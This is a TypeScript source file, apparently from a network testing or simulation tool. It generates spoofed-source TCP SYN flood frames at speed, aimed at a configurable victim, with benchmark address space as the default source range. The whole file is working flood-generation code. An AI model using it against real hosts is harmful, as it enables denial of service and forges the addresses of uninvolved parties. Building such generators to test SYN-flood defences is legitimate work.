// SYNs of a flood: as a common client sends them, from addresses that are not the sender's, so that nobody ever answers
// what they are answered with (RFC 4987 §2). Made by patching one frame, so that a flood can be a fast one.

import { Random } from "../../host/random.ts";
import {
  buildEthernet,
  buildIpv4,
  buildTcp,
  checksum,
  ETHER_IPV4,
  FLAG_BITS,
  PROTOCOL_TCP,
} from "../segment/frames.ts";

/** Whom the flood is for. Addresses in bytes. */
export interface Victim {
  mac: Uint8Array;
  address: Uint8Array;
  port: number;
}

/** Where the forged addresses lie: the bits behind the prefix are drawn. */
export interface Range {
  network: Uint8Array;
  prefixLength: number;
}

/** The range for benchmarks, in which there is nobody (RFC 2544, RFC 6890). */
export const ELSEWHERE: Range = { network: Uint8Array.of(198, 18, 0, 0), prefixLength: 15 };

/** Where the fields lie that differ from frame to frame: behind 14 bytes of Ethernet and 20 of IP. */
const IP = 14;
const IP_CHECKSUM = IP + 10;
const SOURCE = IP + 12;
const TCP = IP + 20;
const SEQUENCE = TCP + 4;
const TCP_CHECKSUM = TCP + 16;

/** MSS 1460, SACK permitted, timestamps, window shift 7. */
const OPTIONS = [
  { kind: 2, data: Uint8Array.of(1460 >> 8, 1460 & 0xff) },
  { kind: 4, data: new Uint8Array(0) },
  { kind: 8, data: Uint8Array.of(1, 2, 3, 4, 0, 0, 0, 0) },
  { kind: 1, data: new Uint8Array(0) },
  { kind: 3, data: Uint8Array.of(7) },
];

export class ForgedSyns {
  readonly #frame: Uint8Array;
  readonly #view: DataView;
  readonly #ranges: readonly Range[];
  readonly #random: Random;
  /** Sums of everything that stays the same in what the checksums cover. */
  readonly #ipSum: number;
  readonly #tcpSum: number;
  #made = 0;

  /** Sources are taken from the ranges in turn. `mac` is what all frames come from. */
  constructor(victim: Victim, mac: Uint8Array, ranges: readonly Range[], seed: number) {
    const nobody = new Uint8Array(4);
    const tcp = { sourcePort: 0, destinationPort: victim.port, seq: 0, ack: 0, window: 64240, urgent: 0 };
    const segment = { ...tcp, flags: FLAG_BITS.S, options: OPTIONS, payload: new Uint8Array(0) };
    const bytes = buildTcp(segment, nobody, victim.address);
    const header = { source: nobody, destination: victim.address, protocol: PROTOCOL_TCP, ttl: 64 };
    const packet = buildIpv4({ ...header, identification: 0, tos: 0 }, bytes);
    this.#frame = buildEthernet(victim.mac, mac, ETHER_IPV4, packet);
    this.#view = new DataView(this.#frame.buffer);
    this.#ipSum = ~this.#view.getUint16(IP_CHECKSUM) & 0xffff;
    this.#tcpSum = ~this.#view.getUint16(TCP_CHECKSUM) & 0xffff;
    this.#ranges = ranges;
    this.#random = new Random(seed, 9);
  }

  /** The next frame; it is good until the one after. */
  next(): Uint8Array {
    const view = this.#view;
    const { network, prefixLength } = this.#ranges[this.#made++ % this.#ranges.length];
    view.setUint32(SOURCE, addressOf(network) | (this.#random.u32() >>> prefixLength));
    view.setUint16(TCP, 1024 + this.#random.below(64_512));
    view.setUint32(SEQUENCE, this.#random.u32());
    const source = view.getUint16(SOURCE) + view.getUint16(SOURCE + 2);
    const numbers = view.getUint16(TCP) + view.getUint16(SEQUENCE) + view.getUint16(SEQUENCE + 2);
    view.setUint16(IP_CHECKSUM, checksum(NOTHING, this.#ipSum + source));
    view.setUint16(TCP_CHECKSUM, checksum(NOTHING, this.#tcpSum + source + numbers));
    return this.#frame;
  }
}

const NOTHING = new Uint8Array(0);

function addressOf(bytes: Uint8Array): number {
  return (bytes[0] << 24) | (bytes[1] << 16) | (bytes[2] << 8) | bytes[3];
}

/** True for an address in the range. */
export function isWithin(address: Uint8Array, { network, prefixLength }: Range): boolean {
  return (addressOf(address) ^ addressOf(network)) >>> (32 - prefixLength) === 0;
}
